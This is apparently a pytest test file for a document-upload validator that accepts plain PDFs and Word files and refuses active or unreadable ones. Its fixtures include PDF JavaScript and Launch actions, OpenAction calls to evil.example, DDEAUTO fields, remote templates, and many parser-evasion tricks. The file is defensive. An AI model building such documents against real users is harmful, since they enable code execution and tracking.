"""Files that do something by themselves, or carry other files, are refused, told by what is in them."""

from __future__ import annotations

import io
import struct
import time
import warnings
import zipfile
import zlib
from collections.abc import Callable
from contextlib import suppress

import pytest
from django.core.exceptions import ValidationError
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NullObject

from clients.contacts import file_types
from documents import render
from tests.making.documents import EXAMPLES
from tests.making.pace import pace

# ---- PDF


def made(change: Callable[[PdfWriter], object] = lambda writer: None) -> bytes:
    """A PDF of one page."""
    writer, out = PdfWriter(), io.BytesIO()
    writer.add_blank_page(200, 200)
    change(writer)
    writer.write(out)
    return out.getvalue()


def with_object(words: bytes, end: bytes = b"endobj") -> bytes:
    """A PDF with one more object, which its table of contents need not name."""
    return made().replace(b"xref\n", b"9 0 obj\n" + words + b"\n" + end + b"\nxref\n", 1)


def packed(words: bytes, keys: bytes = b"/Filter /FlateDecode", body: bytes | None = None) -> bytes:
    """A PDF with an object in a stream of objects."""
    inside = zlib.compress(b"11 0 " + words) if body is None else body
    return with_object(
        b"<</Type /ObjStm /N 1 /First 5 " + keys + b">>\nstream\n" + inside + b"\nendstream"
    )


def together(
    *objects: bytes, first: int | None = None, places: str = "", keys: bytes = b""
) -> bytes:
    """A PDF with objects 11, 12 and so on in one stream of objects."""
    starts = [sum(len(each) + 1 for each in objects[:n]) for n in range(len(objects))]
    head = places or " ".join(f"{11 + n} {start}" for n, start in enumerate(starts))
    inside = zlib.compress(f"{head} ".encode() + b" ".join(objects))
    keys = keys or b"/First %d" % (len(head) + 1 if first is None else first)
    return with_object(
        b"<</Type /ObjStm /N %d %b /Filter /FlateDecode>>\nstream\n" % (len(objects), keys)
        + inside
        + b"\nendstream"
    )


def profile(body: bytes, keys: bytes = b"") -> bytes:
    """A PDF with a colour profile, and a table of contents that leads into streams."""
    return with_object(
        b"<</N 3 " + keys + b">>\nstream\n" + body + b"\nendstream\nendobj\n"
        b"10 0 obj\n<</Type /XRef /W [1 2 1]>>\nstream\nx\nendstream"
    )


def opening(action: DictionaryObject | ArrayObject, *, apart: bool = False) -> bytes:
    def change(writer: PdfWriter) -> None:
        value = writer._add_object(action) if apart else action
        writer._root_object[NameObject("/OpenAction")] = value

    return made(change)


GO = DictionaryObject(
    {NameObject("/S"): NameObject("/GoTo"), NameObject("/D"): ArrayObject([NullObject()])}
)
AWAY = DictionaryObject({NameObject("/S"): NameObject("/URI")})
THEN_AWAY = DictionaryObject(GO | {NameObject("/Next"): AWAY})
PLACE = ArrayObject([NullObject(), NameObject("/Fit")])
CATALOG = b"<</Type /Catalog /Pages 2 0 R /OpenAction <</S /URI /URI (http://evil.example)>>>>"
GOES = b"<</Type /Catalog /OpenAction 11 0 R>>"
COLOURS = b"\0\0\x0cHLino\2\x10\0\0mntrRGB XYZ " + b"\0" * 3000

HARMLESS = {
    "plain": made(),
    "link": with_object(b"<</Subtype /Link /A <</S /URI /URI (https://example.org)>>>>"),
    "words": with_object(b"<</Title (How to use /JavaScript\\) and /JS and obj)>>").replace(
        b"/JavaScript", b"JavaScript"
    ),
    "objects": packed(b"<</Type /Annot /A <</S /GoTo>>>>"),
    "opens at a place": opening(PLACE),
    "opens at a place, apart": opening(PLACE, apart=True),
    "goes to a place": opening(GO),
    "goes to a place, apart": opening(GO, apart=True),
    "numbers": with_object(b"[" + b"0 " * 200_000 + b"]"),
    "objects of all kinds": together(
        b"<</Title (a \\( b % c)>>", b"7", b"[1 0 R <4a> /X]", b"(x)", b"null", b"/Y", b"3 0 R"
    ),
    "object stream of nothing": with_object(
        b"<</Type /ObjStm /N 0 /First 0 /Filter /FlateDecode>>stream\n"
        + zlib.compress(b"")
        + b"\nendstream"
    ),
    "opens at a place, packed": together(b"<</Type /Catalog /OpenAction [3 0 R /Fit]>>"),
    "goes to a place, packed": together(b"<</S /GoTo /D (top)>>", GOES),
    "two tables of contents": together(b"<<>>").replace(
        b"trailer\n<<", b"trailer\n<< /XRefStm 99 "
    ),
    "colours": profile(COLOURS),
    "colours, packed": profile(zlib.compress(COLOURS), b"/Filter [/FlateDecode]"),
    "goes to a place that is reached elsewhere": with_object(
        b"<</Type /Catalog /OpenAction <</Type /Action /S /Go#54o /D 3 0 R>>>>"
    ),
    "colours in a list": profile(
        zlib.compress(COLOURS), b"/Alternate /DeviceRGB /Filter[/FlateDecode]/Length 12 0 R"
    ),
    "no hexadecimal in what is no object": with_object(b"(no object <(>) )"),
    "a word with obj": opening(PLACE, apart=True).replace(
        b"xref\n", b"9 0 obj\n(an object)\nendobj\nxref\n", 1
    ),
}
ACTIVE = {
    "javascript": with_object(b"<</S /JavaScript /JS (app.alert\\(1\\))>>"),
    "attachment": made(lambda w: w.add_attachment("a.exe", b"MZ")),
    "misspelt": with_object(b"<</S /J#61v#61Script /J#53 (x)>>"),
    "misspelt short": with_object(b"<</J#53 (app.alert)>>"),
    "launch": with_object(b"<</S/Launch/F(cmd.exe)>>"),
    "no table names it": with_object(b"<</S /SubmitForm>>"),
    "in a stream of a picture": with_object(
        b"<</Length 99>>\nstream\nx 1 0 obj<</S /ImportData>>endobj\nendstream"
    ),
    "packed": packed(b"<</S /JavaScript>>"),
    "packed and misspelt": packed(b"<</S /#4a#61vaScript>>"),
    "packed short": packed(b"<</AA <</O 3 0 R>>>>"),
    "a picture from elsewhere": with_object(
        b"<</Type /XObject /Subtype /Image /F <</FS /URL /F (http://example.org/x.jpg)>> /FFilter /DCTDecode"
        b" /Length 0>>\nstream\n\nendstream"
    ),
    "a picture from another file": with_object(
        b"<</Type /XObject /Subtype /Image /F (x.jpg) /Length 0>>\nstream\n\nendstream"
    ),
    "a page of another file": with_object(
        b"<</Type /XObject /Subtype /Form /Ref <</F (x.pdf) /Page 0>> /Length 0>>\nstream\n\nendstream"
    ),
    "packed, type misspelt": packed(b"<</S /Launch>>").replace(
        b"/Type /ObjStm", b"/Type /Obj#53tm"
    ),
    "packed, type left out": packed(b"<</S /Launch>>").replace(b"/Type /ObjStm", b""),
    "packed, endobj in a string": packed(
        b"<</S /Launch>>", b"/X (\\( endobj stream) /Filter /FlateDecode"
    ),
    "packed, comment": packed(b"<</S /Launch>>", b"% >> stream\n/Filter /FlateDecode"),
    "opens an address": opening(AWAY),
    "opens an address, apart": opening(AWAY, apart=True),
    "opens and goes on": opening(THEN_AWAY),
    "opens what is not there": with_object(b"<</Type /Catalog /OpenAction 77 0 R>>"),
    "opens, packed": packed(b"<</Type /Catalog /OpenAction <</S /URI>>>>"),
    "opens, one number twice": opening(PLACE, apart=True).replace(
        b"xref\n", b"5 0 obj\n<</S /URI>>\nendobj\n4 0 obj\n<</S /URI>>\nendobj\nxref\n", 1
    ),
    "form that calculates": with_object(b"<</FT /Tx /AA <</K 3 0 R>>>>"),
    "form of another kind": with_object(b"<</AcroForm <</XFA 3 0 R>>>>"),
    "behind a table of contents": made().replace(b"trailer\n<<", b"trailer\n<</Root " + CATALOG),
    "two tables of contents": together(b"<<>>", CATALOG).replace(
        b"trailer\n<<", b"trailer\n<</XRefStm 99 "
    ),
    "endobj in a dictionary": with_object(b"<</Type /Catalog endobj /AA <</O 3 0 R>>>>"),
    "stream in a dictionary": with_object(b"<</Type /Catalog stream /AA <</O 3 0 R>>>>"),
    "endobj in a list without end": with_object(b"<</X [ endobj >> /AA <</O 3 0 R>>"),
    "no hexadecimal": with_object(b"<</X < /AA <</O 3 0 R>> >>"),
    "opens, its number behind a comment": with_object(
        GOES + b"\nendobj\n11 0 obj\n[]\nendobj\n11 0 %\nobj\n" + b"<</S /URI>>"
    ),
    "opens, its number far off": with_object(
        GOES + b"\nendobj\n11 0 obj\n[]\nendobj\n11 0" + b" " * 50 + b"obj\n<</S /URI>>"
    ),
    "opens, a string like an end": together(b"<</S /GoTo /X (>>) /Next <</S /URI>>>>", GOES),
    "packed, behind others": together(b"7", b"(x)", CATALOG),
    "packed, in a string": together(b"<</X (\\\n/AA <<>>)>>"),
    "opens, packed in a string": together(b"<</X (/OpenAction )>>"),
    "opens, its kind apart": with_object(
        b"<</Type /Catalog /OpenAction <</S 9 0 R>>>>\nendobj\n9 0 obj\n/GoTo"
    ),
    "opens, its kind given twice": with_object(
        b"<</Type /Catalog /OpenAction <</S /GoTo /S 9 0 R>>>>\nendobj\n9 0 obj\n/Named"
    ),
    "opens, its kind given twice, both here": with_object(
        b"<</Type /Catalog /OpenAction <</S /GoTo /D [] /#53 /Named>>>>"
    ),
    "opens, what looks like its kind": with_object(
        b"<</Type /Catalog /OpenAction <</X /S /GoTo 1 /S 9 0 R /N /Print>>>>\nendobj\n9 0 obj\n/Named"
    ),
    "opens, what looks like its kind, apart": with_object(
        GOES + b"\nendobj\n11 0 obj\n<</X /S /GoTo 1 /S 12 0 R>>\nendobj\n12 0 obj\n/URI"
    ),
    "opens, what looks like its kind, inside": with_object(
        b"<</Type /Catalog /OpenAction <</D [/S /GoTo]>>>>"
    ),
    "opens, what looks like its kind, packed": together(
        b"<</X /S /GoTo 1 /S 12 0 R>>", GOES, b"/URI"
    ),
    "opens what is elsewhere again": with_object(
        GOES + b"\nendobj\n11 0 obj\n12 0 R\nendobj\n12 0 obj\n<</S /GoTo>>"
    ),
    "opens a list of acts": with_object(b"<</Type /Catalog /OpenAction [<</S /URI>>]>>"),
    "opens, a step of no kind": with_object(
        b"<</Type /Catalog /OpenAction <</S /URI endobj /S /GoTo>>>>"
    ),
    "opens, longer than is kept": with_object(
        b"<</Type /Catalog /OpenAction <</S /GoTo /D [" + b"0 " * 50 + b"] /S /Named>>>>"
    ),
    "carries a file, packed": together(b"<</AF [<</Type /Filespec /EF <</F 3 0 R>>>>]>>"),
    "film": with_object(b"<</Subtype /RichMedia>>"),
}
CLOSED = {
    "encrypted": made(lambda w: w.encrypt("", "owner")),
    "packed twice": packed(b"", b"/Filter [/FlateDecode /FlateDecode]"),
    "packed as hexadecimal": packed(b"", b"/Filter /ASCIIHexDecode"),
    "packed with a predictor": packed(b"", b"/Filter /FlateDecode /DecodeParms <</Predictor 12>>"),
    "packed elsewhere": packed(b"", b"/Filter 12 0 R"),
    "not packed": packed(b"", b"", b"11 0 <<>>"),
    "not packed, but another name says so": packed(b"<<>>", b"/X /FlateDecode"),
    "not packed, but a list says so": packed(b"<<>>", b"/X [/Filter /FlateDecode]"),
    "not packed, but its parameters say so": packed(b"<<>>", b"/X <</Filter /FlateDecode>>"),
    "packed elsewhere, and another name says so": packed(
        b"<<>>", b"/Filter 12 0 R /X /FlateDecode"
    ),
    "packed, said twice": packed(b"<<>>", b"/Filter /FlateDecode /Filter /FlateDecode"),
    "packed, said twice, misspelt": packed(b"<<>>", b"/Filter /FlateDecode /F#69lter null"),
    "packed, said in short": packed(b"<<>>", b"/Filter /Fl "),
    "packed, said in a list of two": packed(b"<<>>", b"/Filter [/FlateDecode null]"),
    "packed, said in a list of references": packed(b"<<>>", b"/Filter [12 0 R] /X /FlateDecode"),
    "packed, said in a list in a list": packed(b"<<>>", b"/Filter [[/FlateDecode]]"),
    "packed in no way": packed(b"<<>>", b"/Filter null /X /FlateDecode"),
    "packed, parameters apart": packed(b"<<>>", b"/Filter /FlateDecode /DecodeParms 12 0 R"),
    "packed, parameters in short": packed(b"<<>>", b"/Filter /FlateDecode /DP null"),
    "packed, no hexadecimal": packed(b"<<>>", b"/X < /Filter /FlateDecode"),
    "packed, no object": packed(b"<<>>", b"/X xref /Filter /FlateDecode"),
    "packed, half a reference": packed(b"<<>>", b"/X R /Filter /FlateDecode"),
    "no hexadecimal, a string in it": with_object(
        b"<</Type /Catalog /X <(> /OpenAction <</S /URI>>>>"
    ),
    "no hexadecimal, a comment in it": with_object(b"<</X <%> /AA <</O 3 0 R>>>>"),
    "no hexadecimal, in a trailer": made().replace(
        b"trailer\n<<", b"trailer\n<</X <a(> /Root " + CATALOG
    ),
    "packed and cut": packed(b"", body=zlib.compress(b"11 0 " + b"<<>>" * 100)[:-8]),
    "packed behind a string": together(b"(", CATALOG),
    "packed behind a comment": together(b"%", CATALOG),
    "packed behind hexadecimal": together(b"<", CATALOG),
    "packed behind a list": together(b"[", CATALOG),
    "packed, a comment inside": together(b"<</X 1 % >>\n/Y 2>>"),
    "packed, two in one place": together(b"null " + CATALOG),
    "packed, a stream inside": together(b"<<>> stream"),
    "packed, one without end": together(b"<<"),
    "packed, wrong brackets": together(b"[<<]>>"),
    "packed, not there": together(b"<<>>", b"<<>>", places="11 0 12 99"),
    "packed, of nothing": together(b"<<>>", b"<<>>", places="11 0 12 0"),
    "packed, backwards": together(b"<<>>", b"<<>>", places="11 5 12 0"),
    "packed, bytes before": together(b"null <<>>", places="11 5"),
    "packed, into another": together(b"<</X (" + CATALOG + b")>>", b"<<>>", places="11 0 12 6"),
    "packed, too few places": together(b"<<>>", b"<<>>", places="11 0"),
    "packed, too many places": together(b"<<>>", places="11 0 12 2"),
    "packed, places with a comment": together(b"<<>>", places="11 %\n0"),
    "packed, places far off": together(b"<<>>", places="11 " + "0" * 5000),
    "packed, a place that goes on": packed(b"", body=zlib.compress(b"11 0123")),
    "packed, begins far off": together(b"<<>>", first=99),
    "packed, begins elsewhere": together(b"<<>>", keys=b"/First 12 0 R"),
    "packed, begins twice": together(b"<<>>", keys=b"/First 5 /First 9"),
    "packed, begins inside": together(b"<<>>", keys=b"/X <</First 5>>"),
    "packed, begins at a huge number": together(b"<<>>", keys=b"/First " + b"9" * 5000),
    "packed, begins nowhere": together(b"<<>>", keys=b"/X 1"),
    "packed, in another file": packed(b"<<>>", b"/F (x) /Filter /FlateDecode"),
    "packed, a page of another file": packed(
        b"<<>>", b"/Ref <</F (x.pdf) /Page 0>> /Filter /FlateDecode"
    ),
    "packed, a word too many": packed(b"<<>>", b"endobj /Filter /FlateDecode"),
    "packed, only counted": profile(
        zlib.compress(b"11 5 12 0 " + CATALOG), b"/Filter /FlateDecode"
    ),
    "packed, only counted, bare": profile(b"11 0 " + CATALOG),
    "packed, only counted, and another name packs it": profile(
        b"x", b"/X /FlateDecode /Filter 12 0 R"
    ),
    "packed, only counted, in another way": profile(b"x", b"/Filter /LZWDecode"),
    "packed, only counted, blanks": profile(
        zlib.compress(b" " * 9000 + b"11 0 " + CATALOG), b"/Filter /FlateDecode"
    ),
    "packed without end": packed(b"<<>>" + b" " * 60_000_000),
}


@pytest.mark.parametrize("name", HARMLESS)
def test_pdf_that_only_shows_is_taken(name: str) -> None:
    assert file_types.check("scan.pdf", HARMLESS[name]) == "application/pdf"


@pytest.mark.parametrize("name", ACTIVE)
def test_pdf_that_does_something_is_refused(name: str) -> None:
    assert refused("scan.pdf", ACTIVE[name]) == "active"


@pytest.mark.parametrize("name", CLOSED)
def test_pdf_that_nobody_can_look_into_is_refused(name: str) -> None:
    assert refused("scan.pdf", CLOSED[name]) == "closed"


def test_our_own_papers_are_taken() -> None:
    for template, data in EXAMPLES.items():
        assert file_types.check("paper.pdf", render(template, data, language="fr"))


def refused(name: str, content: bytes) -> str:
    with pytest.raises(ValidationError) as caught:
        file_types.check(name, content)
    return str(caught.value.code)


SIZE = 9_900_000
HOSTILE = {
    "many objects": b"1 0 obj<<>>endobj ",
    "objects without end": b"1 0 obj ",
    "strings without end": b"1 0 obj(",
    "comments": b"1 0 obj %",
    "hexadecimal without end": b"1 0 obj <",
    "escapes": b"/#41#41",
    "dictionaries": b"<<",
    "streams": b"1 0 obj<</N 1/First 4/Filter/FlateDecode>>stream\n"
    + zlib.compress(b"1 0 <<>>")
    + b"\nendstream ",
    "streams without end": b"1 0 obj<</N 1/First 4/Filter/FlateDecode>>stream\n"
    + zlib.compress(b"1 0 <<>>"),
    "streams that are counted": b"1 0 obj<</N 1/Filter/FlateDecode>>stream\n"
    + zlib.compress(b" " * 3000)
    + b"\nendstream ",
    "dictionaries without end": b"1 0 obj<</X[endobj ",
    "dictionaries without end or beginning": b"1 0 xobj<</X[endobj ",
    "trailers": b"trailer<<",
    "openings": b"1 0 obj/OpenAction 1 0 R ",
    "nothing": b"\0",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_no_pdf_takes_long(name: str) -> None:
    piece = HOSTILE[name]
    content = b"%PDF-1.7\n" + piece * (SIZE // len(piece)) + b"\n%%EOF"
    began = time.process_time()
    with suppress(ValidationError):
        file_types.check("scan.pdf", content)
    assert time.process_time() - began < 15 * pace()


# ---- text documents

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
KINDS = "http://schemas.openxmlformats.org/package/2006"
OPEN = "application/vnd.openxmlformats-officedocument"


def override(name: str, kind: str) -> str:
    return f'<Override PartName="{name}" ContentType="{OPEN}.{kind}"/>'


MAIN = override("/word/document.xml", "wordprocessingml.document.main+xml")
PNG = b"\x89PNG\r\n\x1a\n" + b"p" * 100
EMF = b"\x01\0\0\0" + b"\0" * 36 + b" EMF" + b"\0" * 60
TTF = b"\0\x01\0\0\0\4\0\0" + b"\0" * 300
# The first 32 bytes of a font are veiled, with "<" first by chance; then come places of its tables.
ODTTF = (
    b"<"
    + b"?" * 31
    + b"sum1"
    + b"\0\0\1\0\0\0\0\x09"
    + b"OS/2sum2"
    + b"\0\0\2\0\0\0\0\x60"
    + b"cmapsum3"
    + b"\0" * 99
)


def part(element: str, inside: str = "", more: str = "") -> bytes:
    """A part of Word, with the line that Word begins each with."""
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
        f'<w:{element} xmlns:w="{WORD}" xmlns:r="{RELATION}" {more}>{inside}</w:{element}>'
    ).encode()


def package(tag: str, inside: str) -> bytes:
    return f'<?xml version="1.0" encoding="UTF-8"?>\n<{tag} xmlns="{KINDS}/{tag.lower()}">{inside}</{tag}>'.encode()


def docx(body: str = "", relations: str = "", types: str = MAIN, **parts: bytes) -> bytes:
    """A letter with the parts that Word writes.

    Two underscores in a part's name stand for a slash, and _DOT_ for a dot.
    """
    of_word = {
        "styles": '<w:style w:type="paragraph" w:default="1" w:styleId="Normal"><w:name w:val="Normal"/></w:style>',
        "settings": '<w:zoom w:percent="100"/><w:proofState w:spelling="clean"/><w:themeFontLang w:val="fr-FR"/>',
        "webSettings": "<w:optimizeForBrowser/><w:allowPNG/>",
        "fontTable": '<w:font w:name="Calibri"><w:panose1 w:val="020F0502020204030204"/></w:font>',
    }
    defaults = {
        "rels": "application/vnd.openxmlformats-package.relationships+xml",
        "xml": "application/xml",
        "png": "image/png",
        "jpeg": "image/jpeg",
        "emf": "image/x-emf",
        "odttf": f"{OPEN}.obfuscatedFont",
    }
    types += "".join(f'<Default Extension="{k}" ContentType="{v}"/>' for k, v in defaults.items())
    types += "".join(
        override(f"/word/{each}.xml", f"wordprocessingml.{each}+xml") for each in of_word
    )
    types += override("/word/theme/theme1.xml", "theme+xml") + override(
        "/docProps/app.xml", "extended-properties+xml"
    )
    inner = [("theme", "theme/theme1.xml"), *((each, f"{each}.xml") for each in of_word)]
    relations += "".join(
        f'<Relationship Id="{k}" Type="{RELATION}/{k}" Target="{v}"/>' for k, v in inner
    )
    members = {
        "[Content_Types].xml": package("Types", types).replace(b"/types", b"/content-types"),
        "_rels/.rels": package(
            "Relationships",
            "".join(
                (
                    f'<Relationship Id="rId1" Type="{RELATION}/officeDocument" Target="word/document.xml"/>',
                    f'<Relationship Id="rId2" Type="{KINDS}/relationships/metadata/core-properties" Target="docProps/core.xml"/>',
                    f'<Relationship Id="rId3" Type="{RELATION}/extended-properties" Target="/docProps/app.xml"/>',
                    f'<Relationship Id="rId4" Type="{KINDS}/relationships/metadata/thumbnail" Target="docProps/thumbnail.jpeg"/>',
                )
            ),
        ),
        "word/document.xml": part("document", f"<w:body>{body}<w:sectPr/></w:body>"),
        "word/_rels/document.xml.rels": package("Relationships", relations),
        **{f"word/{each}.xml": part(each, words) for each, words in of_word.items()},
        "word/theme/theme1.xml": b'<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" name="Office"/>',
        "docProps/core.xml": f'<cp:coreProperties xmlns:cp="{KINDS}/metadata/core-properties"/>'.encode(),
        "docProps/app.xml": b"<Properties><Template>Normal.dotm</Template></Properties>",
        "docProps/thumbnail.jpeg": b"\xff\xd8\xff\xe0" + b"x" * 50,
    }
    return zipped(
        members | {k.replace("_DOT_", ".").replace("__", "/"): v for k, v in parts.items()}
    )


def zipped(
    members: dict[str, bytes], *, also: dict[str, bytes] | None = None, comment: bytes = b""
) -> bytes:
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        warnings.simplefilter("ignore")  # about two of one name
        for name, content in [*members.items(), *(also or {}).items()]:
            how = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            archive.writestr(name, content, how)
        archive.comment = comment
    return out.getvalue()


def again(
    content: bytes, *, also: dict[str, bytes] | None = None, without: str = "", comment: bytes = b""
) -> bytes:
    """An archive packed anew, with more entries or without one."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        members = {each: archive.read(each) for each in archive.namelist() if each != without}
    return zipped(members, also=also, comment=comment)


def header(*codes: str) -> bytes:
    """A head of a page with a field."""
    return part("hdr", field(*codes))


def relation(kind: str, target: str, mode: str = "External") -> str:
    return f'<Relationship Id="r1" Type="{RELATION}/{kind}" Target="{target}" TargetMode="{mode}"/>'


def outside(body: str, **parts: bytes) -> bytes:
    """A letter with a relationship that leads out of it, in the manner of a link, and what names it."""
    return docx(body, relation("hyperlink", "https://example.org"), **parts)


def field(*codes: str) -> str:
    run = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{run}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


DOCX_TAKEN = {
    "plain": docx("<w:p><w:r><w:t>A letter about a link, DDE and macros</w:t></w:r></w:p>"),
    "picture": docx(
        relations=relation("image", "media/image1.png", "Internal"), word__media__image1_DOT_png=PNG
    ),
    "link": docx(
        field(' HYPERLINK "https://example.org/LINK" '),
        relation("hyperlink", "https://example.org"),
    ),
    "page numbers": docx(field(" PAGE ") + '<w:fldSimple w:instr="NUMPAGES"/>'),
    "contents": docx(field(" TOC \\o ") + field(" PAGEREF _Toc \\h ")),
    "font": docx(
        word__fonts__font1_DOT_odttf=ODTTF,
        word___rels__fontTable_DOT_xml_DOT_rels=package(
            "Relationships", relation("font", "fonts/font1.odttf", "Internal")
        ),
    ),
    "metafile": docx(word__media__image1_DOT_emf=EMF),
    "head of a page": docx(
        relations=relation("header", "header1.xml", "Internal"),
        types=MAIN + override("/word/header1.xml", "wordprocessingml.header+xml"),
        word__header1_DOT_xml=header(" PAGE "),
    ),
    "absolute": docx(
        relations=relation("header", "/word/header1.xml", "Internal"),
        word__header1_DOT_xml=header(" PAGE "),
    ),
    "a picture of another kind": docx(word__media__image1_DOT_png=b"\xff\xd8\xff\xe0" + b"x" * 50),
    "link inside": docx(
        field(' HYPERLINK \\l "_Toc1" \\o "A tip" \\h '),
        relation("hyperlink", "#_Toc1", "Internal"),
    ),
    "link with a tip": docx(
        field(' HYPERLINK "mailto:a@example.org" \\t "_blank" \\o "Write: x" ')
    ),
    "a field in a condition": docx(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF </w:instrText></w:r>'
        + field(" PAGE ")
        + "</w:p>"
    ),
    "a field after another": docx(
        field("PAGE") + field("NUMPAGES") + '<w:fldSimple w:instr="PAGE"/>' + field(" PAGE ")
    ),
    "link by its relationship": outside(
        '<w:hyperlink r:id="r1" w:history="1"><w:r><w:t>x</w:t></w:r></w:hyperlink>'
    ),
    "picture with a link": outside(
        '<wp:docPr xmlns:wp="urn:wp" id="1" name="r2"><a:hlinkClick xmlns:a="urn:a" r:id="r1"/></wp:docPr>'
    ),
    "a name of another part": outside(
        "",
        word__header1_DOT_xml=part("hdr", '<a:blip xmlns:a="urn:a" r:embed="r1"/>'),
        word___rels__header1_DOT_xml_DOT_rels=package(
            "Relationships", relation("image", "media/a.png", "Internal")
        ),
    ),
    "a part in the folder above": docx(
        relations=relation("customXml", "../customXml/item1.xml", "Internal"),
        customXml__item1_DOT_xml=b"<a/>",
    ),
    "sixteen bits": docx(
        word__header1_DOT_xml=header(" PAGE ").decode().replace("UTF-8", "UTF-16").encode("utf-16")
    ),
}
DOCX_REFUSED = {
    "macro": docx(word__vbaProject_DOT_bin=b"x"),
    "macro, blank": docx(**{"word__vbaProject_DOT_bin ": b"x"}),
    "macro, another name": docx(
        word__theme_DOT_xml=b"<x/>", relations=relation("vbaProject ", "theme.xml", "Internal")
    ),
    "macro, only its type": docx(types=MAIN.replace("document.main", "x.macroEnabled.main")),
    "template": docx(relations=relation("attachedTemplate", "http://evil.example/a.dotm")),
    "template, capitals": docx(
        relations=relation("AttachedTemplate/", "file:///c:/a.dotm", "EXTERNAL")
    ),
    "picture from outside": docx(relations=relation("image", "http://evil.example/a.png")),
    "picture from outside, drawn": docx(
        '<v:imagedata xmlns:v="urn:v" src="\\\\evil.example\\a.png"/>'
    ),
    "link to a program": docx(relations=relation("hyperlink", "file:///c:/a.exe")),
    "inside, but an address": docx(
        relations=relation("image", "https://evil.example/", "Internal")
    ),
    "template by a link": outside(
        "",
        word__settings_DOT_xml=part("settings", '<w:attachedTemplate r:id="r1"/>'),
        word___rels__settings_DOT_xml_DOT_rels=package(
            "Relationships", relation("hyperlink", "http://evil.example/a.dotm")
        ),
    ),
    "picture by a link": outside('<a:blip xmlns:a="urn:a" r:link="r1"/>'),
    "picture by a link, embedded": outside('<a:blip xmlns:a="urn:a" r:embed="r1"/>'),
    "picture by a link, drawn": outside('<v:imagedata xmlns:v="urn:v" r:href="r1"/>'),
    "picture by a link, drawn in the old way": outside(
        '<v:imagedata xmlns:v="urn:v" xmlns:o="urn:o" o:relid=" R1 "/>'
    ),
    "other document by a link": outside('<w:subDoc r:id="r1"/>'),
    "other document": docx('<w:subDoc r:id="r9"/>'),
    "object by a link": outside('<o:OLEObject xmlns:o="urn:o" r:id="r1"/>'),
    "a link's other attribute": outside('<w:hyperlink r:link="r1"/>'),
    "link that is none": outside('<w:hyperlink><w:control r:id="r1"/></w:hyperlink>'),
    "film from elsewhere": docx(
        '<wp15:webVideoPr xmlns:wp15="urn:wp15" embeddedHtml="&lt;iframe>"/>'
    ),
    "picture from beside": docx(relations=relation("image", "../../a.png", "Internal")),
    "picture from beside, absolute": docx(relations=relation("image", "/../a.png", "Internal")),
    "picture from beside, coded": docx(
        relations=relation("image", "media/%2E%2e/../..\\a.png", "Internal")
    ),
    "picture from outside, coded": docx(
        relations=relation("image", "http%3A//evil.example/a.png", "Internal")
    ),
    "picture from outside, a control character": docx(
        relations=relation("image", "ht&#10;tp://evil.example/a.png", "Internal")
    ),
    "embedded": docx(word__embeddings__oleObject1_DOT_bin=b"x"),
    "embedded, called a picture": docx(word__media__image1_DOT_png=b"\xd0\xcf\x11\xe0\xa1\xb1"),
    "page, called a picture": docx(word__media__image1_DOT_png=b"<html>"),
    "table inside": docx(word__embeddings__a_DOT_xlsx=b"x"),
    "control": docx(
        word__activeX__activeX1_DOT_xml=b"<x/>",
        relations=relation("control", "activeX/activeX1.xml", "Internal"),
    ),
    "other text": docx(
        word__a_DOT_html=b"<html/>", relations=relation("aFChunk", "a.html", "Internal")
    ),
    "field that runs": docx(field(" DDEAUTO c:\\\\windows ")),
    "field that runs, in pieces": docx(field(" D", "DEA", "UTO x")),
    "field that runs, simple": docx('<w:p><w:fldSimple w:instr="dde x"/></w:p>'),
    "field that fetches": docx(field(' INCLUDEPICTURE "http://evil.example" ')),
    "field in a field": docx(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' + field(" REF a ") + "</w:p>"
    ),
    "field in a field's first word": docx(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DD</w:instrText></w:r>'
        + field(" REF a ")
        + "</w:p>"
    ),
    "field with an element in it": docx(field("D<w:x/>DE<w:x>A</w:x>UTO x")),
    "field in quotes": docx(field(' "DDEAUTO" x')),
    "field to a program": docx(field(' HYPERLINK "file:///c:/a.exe" ')),
    "field to a program, behind a switch": docx(
        field(' HYPERLINK \\o "https://x" "\\\\evil.example\\a.exe" ')
    ),
    "field to a program, bare": docx(field(" HYPERLINK \\\\evil.example\\a.exe ")),
    "field in a header": docx(word__header1_DOT_xml=header("DDE")),
    "field in a header, sixteen bits": docx(
        word__header1_DOT_xml=header("DDE").decode().replace("UTF-8", "UTF-16").encode("utf-16")
    ),
    "header called a font": docx(word__header1_DOT_ttf=header("DDEAUTO x")),
    "header called a veiled font": docx(word__header1_DOT_odttf=header("DDEAUTO x")),
    "header called a picture": docx(word__header1_DOT_png=header("DDEAUTO x")),
    "header called a picture, BOM": docx(
        word__header1_DOT_png=b"\xef\xbb\xbf" + header("DDEAUTO x")
    ),
    "header called a picture, sixteen bits": docx(
        word__header1_DOT_png=header("DDEAUTO x")
        .decode()
        .replace("UTF-8", "UTF-16")
        .encode("utf-16")
    ),
    "header called a font, sixteen bits": docx(
        word__header1_DOT_odttf=header("DDEAUTO x")
        .decode()
        .replace("UTF-8", "UTF-16")
        .encode("utf-16")
    ),
    "header called a font, blanks": docx(word__header1_DOT_odttf=b" " * 100 + header("DDEAUTO x")),
    "header called relationships": docx(word__header1_DOT_rels=header("DDEAUTO x")),
    "header called types": docx(**{"word/x/[Content_Types]_DOT_xml": header("DDEAUTO x")}),
    "header without an ending": docx(word__header1=header("DDEAUTO x")),
    "header in pieces": docx(**{"word/header1.xml/[0].piece": header("DDEAUTO x")}),
    "mimetype": docx(mimetype=header("DDEAUTO x")),
    "font declared a header": docx(
